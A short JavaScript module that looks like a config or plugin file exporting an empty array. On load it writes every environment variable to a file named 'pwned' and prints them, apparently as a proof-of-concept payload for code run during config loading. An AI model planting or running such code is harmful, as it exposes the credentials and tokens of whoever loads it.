import { writeFileSync } from 'node:fs';
writeFileSync('pwned', JSON.stringify(process.env));
console.log(JSON.stringify(process.env));
export default [];
